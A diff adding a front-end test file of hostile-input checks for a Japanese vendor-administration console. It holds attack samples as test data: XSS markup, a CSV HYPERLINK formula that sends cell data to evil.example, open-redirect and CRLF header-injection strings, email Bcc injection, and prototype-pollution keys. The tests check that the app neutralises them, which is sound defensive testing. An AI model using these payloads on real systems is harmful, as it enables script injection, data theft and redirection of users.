@@ -1,0 +1,508 @@
+/** What a hostile tester would try on the pages: odd answers, odd names, tampered storage, noise from other windows. */
+import { act, fireEvent } from '@testing-library/react'
+import { test } from 'uvu'
+import * as assert from 'uvu/assert'
+import defaultConfig from '../../static/config.json' with { type: 'json' }
+import { createPlatform, type Platform } from '../platform/platform.ts'
+import {
+  alert, area, button, complaints, departures, dialog, goTo, heading, inAnotherTab, key, open, pause, press, rows, settled, signIn, status,
+  table, text, textbox, type, until,
+} from './open.tsx'
+import { entries, farm, intercept, openUsers, smallPlatform as people, takeCalls } from './peoplePage.ts'
+import { fillIn, hold, isIdle, isReady, lines, openCreate, sent, smallPlatform } from './vendorPage.ts'
+
+type Account = Parameters<Platform['tokensFor']>[0]
+
+const title = 'ベンダー一覧'
+const names = () => (table(title) ? rows(title).map(([name]) => name!) : [])
+const list = '/api/v1/vendors/get_detail/'
+const keysOf = (area: Storage) => Array.from({ length: area.length }, (_, index) => area.key(index)!).sort()
+
+const wireVendor = (values: object) => ({
+  id: 1, name: '農園', contract_number: 'AG-1', member_type: { id: 1, name: '一般会員' }, is_active: 1, expiration_date: '2027-03-31',
+  count: { user: 0, group: 0, application: 0 }, ...values,
+})
+
+async function openVendors(body: unknown, path = '/vendors') {
+  const platform = createPlatform()
+  platform.faults.push({ path: list, status: 200, body })
+  await open(path, { as: 'systemAdmin', platform })
+  return platform
+}
+
+/** Puts a text into a field in one go. */
+async function paste(label: string, value: string) {
+  await act(async () => void fireEvent.input(textbox(label)!, { target: { value }, inputType: 'insertFromPaste' }))
+}
+
+/** Lets something happen at another time of the browser's clock. */
+async function at(offset: number, happen: () => Promise<unknown>) {
+  const { now } = Date
+  Date.now = () => now() + offset
+  try {
+    await happen()
+  } finally {
+    Date.now = now
+  }
+}
+
+/** Whether the console stands where it stood, with its session, and nothing was sent. */
+async function isUnmoved(platform: Platform, calls: number) {
+  await pause(20)
+  await settled()
+  assert.is(platform.requests.length, calls)
+  assert.equal(departures, [])
+  assert.is(heading(), 'ベンダー')
+  assert.is(alert(), null)
+  assert.ok(names().length > 0)
+}
+
+// ---- what is not quite covered by the tests of the pages ----
+
+test('T14 the page of the return, left and visited again while the code is exchanged, exchanges it no second time', async () => {
+  const platform = createPlatform()
+  const letGo = hold(platform, { method: 'POST', path: '/api/v1/oauth2/code/', status: 500 })
+  await open('/?code=c-1&state=s-1', { platform, storage: { session: { state: 's-1', nonce: 'n-1', codeVerifier: 'v' } }, wait: false })
+  await until(() => platform.requests.length === 1)
+  for (const path of ['/forgot', '/callback', '/intro', '/callback']) await goTo(path)
+  letGo()
+  await until(() => text().includes('不正な操作です。'))
+  assert.is(platform.requests.filter(({ path }) => path.endsWith('/oauth2/code/')).length, 1)
+})
+
+test('T35 markup in a list of errors is literal text, in a form, in a notice and in a policy', async () => {
+  const nasty = '<img src=x onerror=alert(1)>"><svg onload=alert(1)>{{7*7}}'
+  const platform = people()
+  await open('/apps?vendor=2', { as: 'systemAdmin', platform })
+  await until(() => button('収量予測を削除'))
+  platform.faults.push({ method: 'DELETE', path: /\/application\//, status: 400, body: { errors: [nasty, { more: nasty }] } })
+  await press('収量予測を削除')
+  await until(() => button('削除'))
+  await press('削除')
+  await until(() => button('OK'))
+  assert.is(text(dialog()!).split(nasty).length, 3)
+  assert.is(document.querySelector('img, [onload], [onerror]'), null)
+})
+
+// ---- hostile answers ----
+
+test('H24 rows with the same id, or with 1 and "1", leave no ghosts behind when they are filtered', async () => {
+  const twins = [[1, '甲'], ['1', '乙'], [1, '丙'], ['2', '丁']].map(([id, name]) => wireVendor({ id, name, contract_number: `AG-${name}` }))
+  await openVendors(twins)
+  const all = names()
+  assert.ok(all.includes('丁') && all.length > 1)
+  await type('ベンダー名', '丁')
+  await key('Enter')
+  await until(() => names().length === 1)
+  assert.equal(names(), ['丁'])
+  await type('ベンダー名', '')
+  await key('Enter')
+  await until(() => names().length > 1)
+  assert.equal(names(), all)
+})
+
+test('H25 a name of five million characters is a name: the page goes on, filters and sorts', async () => {
+  await openVendors([wireVendor({ id: 1, name: '長'.repeat(5_000_000) }), wireVendor({ id: 2, name: '短い農園' })])
+  assert.is(names().length, 2)
+  await press('ベンダー名')
+  await type('ベンダー名', '短い')
+  await key('Enter')
+  await until(() => names().length === 1)
+  assert.equal(names(), ['短い農園'])
+})
+
+const odd = { 'a number': 20270331, 'an object': { ja: '農園' }, 'a list': ['農園'], true: true } as const
+
+for (const [what, value] of Object.entries(odd)) {
+  test(`H26 where a text is ${what}, the page stands, can be filtered and be sorted`, async () => {
+    const strange = wireVendor({ id: 1, name: value, contract_number: value, member_type: { id: 1, name: value } })
+    await openVendors([strange, wireVendor({ id: 2, name: '普通の農園' })])
+    assert.is(heading(), 'ベンダー')
+    assert.is(names().length, 2)
+    for (const column of ['ベンダー名', '契約番号', '会員種別']) await press(column)
+    await type('ベンダー名', '普通')
+    await key('Enter')
+    await until(() => names().length === 1)
+    assert.equal([heading(), names()], ['ベンダー', ['普通の農園']])
+  })
+}
+
+test('H27 counts that are texts, negative or no numbers are numbers on the screen, and a text that is one counts as it', async () => {
+  const counts = ['3', -1, 'いくつか', null, { n: 1 }, 1e999, '', true]
+  const countOf = (user: unknown) => ({ user, group: 0, application: 0 })
+  await openVendors(counts.map((user, n) => wireVendor({ id: n + 1, name: `農園${n}`, contract_number: `AG-${n}`, count: countOf(user) })))
+  const shown = rows(title)
+  assert.is(shown.length, counts.length)
+  for (const cells of shown) assert.match(cells[4]!, /^-?\d+$/, cells.join())
+  for (const name of ['農園0', '農園7']) assert.is(button(`${name}を削除`)?.getAttribute('aria-disabled'), 'true', name)
+})
+
+test('H28 user details that hold an error, or names that are no texts, give nobody a privilege and break nothing', async () => {
+  for (const body of [{ errors: ['システムエラー'] }, { results: [{ system_admin: true }] }, { system_admin: { is: true }, userName: 'x' }]) {
+    const platform = createPlatform()
+    platform.faults.push({ path: '/api/v1/user/get_detail/', status: 200, body })
+    await open('/vendors', { as: 'systemAdmin', platform })
+    await until(() => heading() === '認証エラー')
+    assert.is(area('メインメニュー')?.querySelector('a') ?? null, null)
+    assert.is(platform.requests.some(({ path }) => path === list), false)
+  }
+  const platform = createPlatform()
+  const body = { id: 1, system_admin: true, vendor_id: 1, userName: 'x', family_name: { ja: '山田' }, given_name: ['花子'] }
+  platform.faults.push({ path: '/api/v1/user/get_detail/', status: 200, body })
+  await open('/vendors', { as: 'systemAdmin', platform })
+  await until(() => names().length > 0)
+})
+
+test('H29 every column of the CSV is made a text where it would be a formula, and no value adds a row or a column', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x'
+  const type = { id: 1, name: formula }
+  const values = { name: formula, contract_number: formula, member_type: type, expiration_date: '=1+1', count: { user: -1 } }
+  await openVendors([wireVendor(values)])
+  const { click } = HTMLAnchorElement.prototype
+  const { createObjectURL } = URL
+  let saved: Blob | undefined
+  HTMLAnchorElement.prototype.click = () => {}
+  URL.createObjectURL = blob => { saved = blob as Blob; return 'blob:x' }
+  try {
+    await press('ベンダー一覧のCSV')
+    await until(() => saved !== undefined)
+  } finally {
+    HTMLAnchorElement.prototype.click = click
+    URL.createObjectURL = createObjectURL
+  }
+  const quoted = `"'${formula.replaceAll('"', '""')}"`
+  const [, ...after] = (await saved!.text()).split('ステータス\r\n')
+  assert.equal(after, [`${quoted},${quoted},${quoted},,'-1,0,0,有効\r\n`])
+})
+
+test('H30 a thousand failures of one kind are one message', async () => {
+  await open('/vendors', { as: 'systemAdmin' })
+  await act(async () => {
+    for (let count = 0; count < 1000; count++) window.dispatchEvent(new ErrorEvent('error', { message: 'x' }))
+  })
+  await until(() => alert())
+  assert.is(alert(), '予期せぬエラーが発生しました。')
+})
+
+test('H31 an error body of 10,000 levels leaves a message in the form, which can be sent again', async () => {
+  const platform = await openCreate()
+  await fillIn()
+  const body = `${'{"a":'.repeat(10_000)}"深い"${'}'.repeat(10_000)}`
+  platform.faults.push({ method: 'POST', path: '/api/v1/vendor/', times: 1, status: 400, body })
+  await press('保存')
+  await until(() => isIdle() && lines().length)
+  assert.is(textbox('ベンダー名')?.value, '新しい農園')
+  await press('保存')
+  await until(() => !dialog())
+  assert.is(sent(platform, 'POST'), 2)
+})
+
+test('H32 an error body of 10,000 lines is shown, and the form can be sent again', async () => {
+  const platform = await openCreate()
+  await fillIn()
+  platform.faults.push({ method: 'POST', path: '/api/v1/vendor/', times: 1, status: 400, body: { name: '行\n'.repeat(10_000) } })
+  await press('保存')
+  await until(() => isIdle() && lines().length)
+  assert.is(lines().length, 10_000)
+  await press('保存')
+  await until(() => !dialog())
+})
+
+test('H33 an answer that claims more than JSON can say (NaN, a comment, a second document) is a failed load', async () => {
+  for (const body of ['[{"id": NaN}]', '[{"id": 1}] // ok', '[{"id": 1}][]', "[{'id': 1}]", ')]}\'\n[{"id": 1}]', '\0[]', '[{"id": 1},]']) {
+    await openVendors(body)
+    assert.match(text(), 'ベンダー情報を取得できませんでした。', body)
+    assert.ok(button('再試行'))
+  }
+})
+
+// ---- hostile names ----
+
+const disguised = {
+  'a zero-width space': '青森\u200b農園',
+  'a sign that turns it round': '\u202e園農森青',
+  'a NUL': '青森\0農園',
+  'half a character': '青森農園\ud83c',
+  'a letter in two parts': '青森か\u3099農園',
+}
+
+for (const [what, name] of Object.entries(disguised)) {
+  test(`H34 a vendor whose name has ${what} in it is deleted only by exactly that name, and is shown with it`, async () => {
+    const platform = smallPlatform({ name })
+    await open('/vendors', { as: 'systemAdmin', platform })
+    await press([...document.querySelectorAll('button')].find(entry => entry.getAttribute('aria-label') === `${name}を削除`)!)
+    await until(() => dialog('ベンダー削除'))
+    assert.ok(dialog()!.textContent!.includes(name))
+    for (const wrong of ['青森農園', '青森が農園', name.normalize('NFKC') === name ? `${name} ` : name.normalize('NFKC'), name.slice(0, -1)]) {
+      await paste('ベンダー名', wrong)
+      await press('削除')
+      assert.is(complaints().length, 1, JSON.stringify(wrong))
+    }
+    assert.is(sent(platform, 'DELETE'), 0)
+    await paste('ベンダー名', name)
+    await press('削除')
+    await until(() => text().includes('ベンダーの削除が完了しました。'))
+    assert.is(sent(platform, 'DELETE'), 1)
+  })
+}
+
+const groupPanel = () => area('ベンダーグループ一覧')
+
+test('H35 a group that is called すべて, or like a part of every object, is itself', async () => {
+  const platform = people()
+  const [first, second] = platform.tables.vendorGroups
+  Object.assign(first!, { name: 'すべて' })
+  Object.assign(second!, { name: '__proto__' })
+  await openUsers('/users?vendor=2', platform)
+  await until(() => entries(groupPanel()).length === 4)
+  const buttons = () => [...groupPanel()!.querySelectorAll('li button')]
+  const pressed = () => buttons().filter(entry => entry.getAttribute('aria-current')).map(entry => entry.textContent)
+  const twins = buttons().filter(entry => entry.textContent === 'すべて')
+  assert.is(twins.length, 2)
+  await press(twins[1]!)
+  await until(() => location.hash.includes(`group=${first!.id}`))
+  assert.equal(pressed(), ['すべて'])
+  await press('__proto__')
+  await until(() => location.hash.includes(`group=${second!.id}`))
+  assert.equal(pressed(), ['__proto__'])
+})
+
+test('H36 an address for a mail that tries to add lines or other addresses is refused before anything is sent', async () => {
+  await openCreate()
+  await fillIn()
+  for (const value of ['a@b.jp\nBcc: c@d.jp', 'a@b.jp,c@d.jp', 'a@b.jp;c@d.jp', '"x"@b.jp', '<a@b.jp>', 'a@b.jp%0aBcc:c@d.jp', 'ａ@b.jp']) {
+    await paste('利用通知メールアドレス', value)
+    await press('保存')
+    assert.is(complaints().length, 1, value)
+  }
+})
+
+// ---- hostile addresses and storage ----
+
+test('H37 an address of 100,000 characters shows its page, and is taken along', async () => {
+  const long = 'x'.repeat(100_000)
+  await open(`/vendors?junk=${long}&vendors.q=${long}&__proto__=1&vendors.page=${'9'.repeat(1000)}`, { as: 'systemAdmin' })
+  assert.is(heading(), 'ベンダー')
+  await press('絞り込みを解除')
+  await until(() => names().length > 0)
+  await press('ユーザー')
+  await until(() => heading() === 'ユーザー')
+  assert.ok(location.hash.includes(long))
+})
+
+test('H38 a hundred presses on what is selected already add no entry to the history', async () => {
+  await openUsers('/users?vendor=2', people())
+  const entry = () => [...area('ベンダー一覧')?.querySelectorAll('li button') ?? []].find(({ textContent }) => textContent === farm)
+  await until(() => entry() !== undefined)
+  await press(entry()!)
+  await until(() => location.hash.includes('vendor=3'))
+  const before = history.length
+  for (let count = 0; count < 100; count++) await press(entry()!)
+  assert.is(history.length, before)
+})
+
+const traps = [
+  'https://evil.example/', '//evil.example/', '/\\evil.example', 'javascript:alert(1)', 'data:text/html,x', '/callback?code=a&state=b', '',
+  '/intro', '\\\\evil.example', '/vendors\r\nLocation: https://evil.example', '?to=https://evil.example', '/unauthorized',
+  '/resetPassword?token=x',
+]
+
+test('H39 a remembered address that was tampered with leads nowhere but to the beginning', async () => {
+  for (const address of traps) {
+    const session = { returnTo: JSON.stringify({ address, until: Date.now() + 60_000 }) }
+    await open('/', { as: 'systemAdmin', storage: { session } })
+    await until(() => heading() === 'ベンダー')
+    assert.equal(departures, [], address)
+    assert.match(location.href, /^http:\/\/localhost:8080\/#\/vendors/, address)
+    assert.equal(keysOf(sessionStorage), [])
+  }
+})
+
+const drafts = {
+  'values of other types': { name: { a: 1 }, contract_number: 7, member_type: ['1'], notify_email_address: null, is_active: 'yes' },
+  'values for fields that there are not': { password: 'x', ['__proto__']: { name: 'x' }, id: 2, constructor: 'x' },
+  'a list': ['x', 'y'],
+}
+
+for (const [what, values] of Object.entries(drafts)) {
+  test(`H40 a kept form that was tampered with (${what}) breaks nothing, and sends nothing by itself`, async () => {
+    const { platform } = await open('/vendors', { as: 'systemAdmin' })
+    const user = String((await (await platform.handle(new Request('http://localhost:8080/api/v1/user/get_detail/', {
+      headers: { authorization: `Bearer ${localStorage.getItem('accessToken')}` },
+    }))).json() as { id: number }).id ?? '')
+    const session = { draft: JSON.stringify({ form: 'vendor', of: '', values, user, until: Date.now() + 60_000 }) }
+    const calls = platform.requests.length
+    await open('/vendors', { platform, as: 'systemAdmin', storage: { session } })
+    await until(() => dialog('ベンダー追加') && isReady())
+    assert.is(heading(), 'ベンダー')
+    await press('保存')
+    await settled()
+    assert.ok(complaints().length > 0)
+    assert.ok(platform.requests.slice(calls).every(({ method }) => method === 'GET'))
+  })
+}
+
+test('H41 a configuration of ten megabytes, with keys that all objects inherit, starts the console like any other', async () => {
+  const config = { ...defaultConfig, ['__proto__']: { apiBaseUrl: 'https://evil.example' }, junk: 'x'.repeat(10_000_000) }
+  await open('/vendors', { as: 'systemAdmin', config })
+  assert.ok(names().length > 0)
+  assert.is(({} as { apiBaseUrl?: unknown }).apiBaseUrl, undefined)
+})
+
+// ---- other windows, other tabs, other times ----
+
+test('H42 messages of other windows are nobody’s: nothing is read, done or answered', async () => {
+  const { platform } = await open('/vendors', { as: 'systemAdmin' })
+  const calls = platform.requests.length
+  const answers: unknown[] = []
+  const polluting = { ['__proto__']: { polluted: 1 } }
+  for (const data of [{ type: 'signOut' }, { accessToken: 'x' }, 'javascript:alert(1)', polluting, null, { to: '/users' }]) {
+    const source = { postMessage: (message: unknown) => void answers.push(message) }
+    window.dispatchEvent(new MessageEvent('message', { data, origin: 'https://evil.example', source: source as unknown as Window }))
+  }
+  await isUnmoved(platform, calls)
+  assert.equal(answers, [])
+})
+
+test('H43 storage events that say what is not so, or concern something else, change nothing', async () => {
+  const { platform } = await open('/vendors', { as: 'systemAdmin' })
+  const calls = platform.requests.length
+  await act(async () => {
+    for (const init of [
+      { key: 'accessToken', newValue: 'forged', storageArea: localStorage },
+      { key: 'accessToken', newValue: 'x', storageArea: sessionStorage },
+      { key: 'accessToken', newValue: null, storageArea: localStorage }, { key: null, storageArea: localStorage }, { key: 'accessToken' },
+      { key: '__proto__', newValue: '{}', storageArea: localStorage }, { key: 'draft', newValue: '{', storageArea: sessionStorage },
+    ]) window.dispatchEvent(new StorageEvent('storage', init))
+  })
+  await isUnmoved(platform, calls)
+})
+
+test('H44 a token that another tab replaces by garbage ends the session here, and is not sent', async () => {
+  const platform = createPlatform()
+  const seen: (string | null)[] = []
+  const { handle } = platform
+  platform.handle = request => { seen.push(request.headers.get('authorization')); return handle(request) }
+  await open('/vendors', { as: 'systemAdmin', platform })
+  await inAnotherTab({ accessToken: 'x\r\nX-Injected: 1' })
+  await until(() => departures.length > 0)
+  assert.is(names().length, 0)
+  assert.is(seen.some(header => header?.includes('Injected')), false)
+})
+
+test('H45 tokens of somebody else that appear unannounced are not sent: what this page does, it does as the user it shows', async () => {
+  const platform = createPlatform()
+  const seen: (string | null)[] = []
+  const { handle } = platform
+  platform.handle = request => { seen.push(request.headers.get('authorization')); return handle(request) }
+  await open('/vendors', { as: 'systemAdmin', platform })
+  const own = localStorage.getItem('accessToken')
+  const other = await platform.tokensFor('vendorUser')
+  for (const [name, value] of Object.entries(other)) localStorage.setItem(name, value)
+  seen.length = 0
+  await press('グループ')
+  await until(() => heading() === 'グループ')
+  await settled()
+  assert.equal([...new Set(seen)], [`Bearer ${own}`])
+  await inAnotherTab(other)
+  await until(() => departures.length > 0)
+  assert.equal({ ...other }, Object.fromEntries(keysOf(localStorage).map(name => [name, localStorage.getItem(name)])))
+})
+
+const year = 31_536_000_000
+
+for (const [what, offset] of Object.entries({ 'a year ahead': year, 'a year back': -year, 'to the year 1970': -Date.now() })) {
+  test(`H46 a clock that jumps ${what} ends no session, and leaves the pages usable`, async () => {
+    const { platform } = await open('/vendors', { as: 'systemAdmin' })
+    await at(offset, async () => {
+      await press('グループ')
+      await until(() => heading() === 'グループ')
+      await press('ベンダー')
+      await until(() => names().length > 0)
+    })
+    assert.equal(departures, [])
+    assert.is(alert(), null)
+    assert.ok(platform.requests.every(request => request.status === 200))
+  })
+}
+
+test('H47 of two tabs that make the same secret anew, each offers the one that is valid when it asks', async () => {
+  const platform = people()
+  Object.assign(platform.tables.applications[0]!, { application_id: 'app-0001', client_id: 'client-0001', client_secret: 'first' })
+  await open('/apps?vendor=2', { as: 'systemAdmin', platform })
+  await until(() => button('収量予測の認証情報'))
+  await press('収量予測の認証情報')
+  await until(() => button('再生成'))
+  await press('再生成')
+  await until(() => dialog('クライアントシークレット再生成'))
+  intercept(platform, call => {
+    // The other tab's regeneration comes between this one's and the fetching of its result.
+    if (call.startsWith('GET /integratedApplication/')) platform.tables.applications[0]!.client_secret = 'of the other tab'
+    return undefined
+  })
+  await press('再生成')
+  await until(() => button('クライアントシークレットを表示'))
+  await press('クライアントシークレットを表示')
+  assert.match(text(), 'of the other tab')
+  assert.not.match(text(), 'first')
+})
+
+test('H48 the session of a user who is signed out elsewhere is not brought back by what arrives late', async () => {
+  const platform = createPlatform()
+  await open('/vendors', { as: 'systemAdmin', platform })
+  const letGo = hold(platform, { path: /\/vendorGroup\/|\/vendors\// })
+  await press('グループ')
+  await inAnotherTab('clear')
+  await until(() => departures.length > 0)
+  letGo()
+  await pause(20)
+  assert.equal([keysOf(localStorage), table(title), area('ベンダー一覧')], [[], null, null])
+})
+
+// ---- forms ----
+
+test('H49 no form has a field that only a browser’s autofill would see and that is sent', async () => {
+  const hidden = () => [...document.querySelectorAll<HTMLInputElement>('form input')].filter(input =>
+    input.type === 'hidden' || input.closest('[hidden], [aria-hidden="true"]') !== null)
+  await openCreate()
+  assert.equal(hidden(), [])
+  const platform = people()
+  await open('/apps', { as: 'vendorUser', platform })
+  await press('アカウントメニュー')
+  await press('パスワード変更')
+  await until(() => dialog() && isReady())
+  for (const input of hidden()) {
+    assert.equal([input.readOnly, input.autocomplete, input.name], [true, 'username', ''])
+    await act(async () => void fireEvent.input(input, { target: { value: 'autofilled' } }))
+  }
+  takeCalls(platform)
+  const fields = [...document.querySelectorAll<HTMLInputElement>('dialog input[type="password"]')]
+  for (const [index, value] of ['old', 'Abcdefgh1234', 'Abcdefgh1234'].entries()) {
+    await act(async () => void fireEvent.input(fields[index]!, { target: { value } }))
+  }
+  await press('保存')
+  await until(() => isIdle() && (!dialog() || lines().length))
+  assert.is(takeCalls(platform).some(call => call.includes('autofilled')), false)
+})
+
+test('H50 a sign-in by an id token of a megabyte succeeds, and so does the sign-out', async () => {
+  const { platform } = await open('/')
+  const { handle } = platform
+  platform.handle = async request => {
+    const response = await handle(request)
+    if (!new URL(request.url).pathname.endsWith('/oauth2/code/')) return response
+    const { idToken, ...rest } = await response.json() as { idToken: string }
+    const [head, claims, signature] = idToken.split('.')
+    const padded = { ...JSON.parse(Buffer.from(claims!, 'base64url').toString()), roles: 'x'.repeat(1_000_000) }
+    return Response.json({ ...rest, idToken: `${head}.${Buffer.from(JSON.stringify(padded)).toString('base64url')}.${signature}` })
+  }
+  await signIn(platform, 'vendorUser' satisfies Account)
+  assert.is(heading(), 'アプリケーション')
+  await press('アカウントメニュー')
+  await press('サインアウト')
+  await until(() => departures.length > 0)
+  assert.equal(keysOf(localStorage), [])
+  assert.is(status()?.includes('x'.repeat(100)) ?? false, false)
+})
+
+test.run()
